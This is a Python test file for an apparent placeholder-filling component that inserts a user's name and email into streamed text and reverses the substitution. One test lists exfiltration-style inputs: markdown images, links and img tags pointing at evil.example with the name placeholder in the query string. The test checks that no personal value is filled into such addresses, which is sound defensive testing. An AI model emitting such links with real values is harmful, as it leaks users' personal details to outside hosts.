"""Placeholders: filled in however the text is cut, and turned back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.disclosure.filling import Filler, turned_back
from app.disclosure.placeholders import Placeholder

NAME = Placeholder("[Your name]", "Zoë Grey")
FIRST = Placeholder("[Your first name]", "Zoë")
MAIL = Placeholder("[Your email]", "zoe@grey.example")
ALL = (FIRST, NAME, MAIL)
PIECES = st.lists(
    st.sampled_from(["[", "]", "Your", " ", "name", "first", "[Your name]", "[YOUR NAME]", "a"])
)


def filled(pieces: list[str]) -> tuple[str, int]:
    filler = Filler(ALL)
    text = "".join([filler.push(piece) for piece in pieces]) + filler.flush()
    return text, filler.filled


@given(PIECES, st.data())
def test_how_the_text_is_cut_changes_nothing(words: list[str], data: st.DataObject) -> None:
    text = "".join(words)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)))))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert filled(pieces) == filled([text]) == filled(list(text))


@given(PIECES)
def test_each_placeholder_is_filled_and_nothing_else_is_changed(words: list[str]) -> None:
    text = "".join(words)
    found, count = filled([text])
    assert count == text.lower().count("[your name]") + text.lower().count("[your first name]")
    assert "[your name]" not in found.lower()
    if not count:
        assert found == text


def test_it_holds_back_only_what_may_become_one() -> None:
    filler = Filler(ALL)
    released = [filler.push(one) for one in ("Hi [", "not] [You", "r na", "me]!")]
    assert released == ["", "", "", "Hi [not] Zoë Grey!"]
    assert filler.push("[a]") == "[a]"


def test_without_placeholders_everything_passes() -> None:
    filler = Filler(())
    assert (filler.push("[Your name"), filler.push("]"), filler.flush()) == ("[Your name", "]", "")


def test_values_are_turned_back_the_longest_first_and_as_whole_words() -> None:
    text = "Zoë Grey here, Zoë to you. Write to zoe@grey.example; Zoës are many."
    assert turned_back(text, ALL) == (
        "[Your name] here, [Your first name] to you. Write to [Your email]; Zoës are many."
    )


def test_values_are_found_however_they_are_written_and_only_with_their_capital() -> None:
    will = Placeholder("[Your first name]", "Will")
    assert turned_back("Will you come? I will. Yours, WILL", (will,)) == (
        "[Your first name] you come? I will. Yours, [Your first name]"
    )
    assert turned_back("ZOE\u0308\u00a0GREY", ALL) == "[Your name]"
    chinese = Placeholder("[Your name]", "田中太郎")
    assert turned_back("私は田中太郎さんです", (chinese,)) == "私は[Your name]さんです"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?u=[Your name])",
        "[x](/go?u=[Your name])",
        '<img src="/p?u=[Your name]">',
        "see http://evil.example/[Your name]",
        "[x]: /p?u=[Your name]",
    ],
)
def test_nothing_is_filled_into_an_address(text: str) -> None:
    for pieces in ([text], list(text)):
        assert filled(pieces) == (text, 0)
    assert filled([text, ") \n> I am [Your name]"])[1] == 1


@given(PIECES)
def test_what_was_filled_is_turned_back_without_a_value(words: list[str]) -> None:
    text, _ = filled(["x ".join(words)])
    back = turned_back(text, ALL)
    assert "Zoë Grey" not in back.split()
    assert filled([back])[0] == text
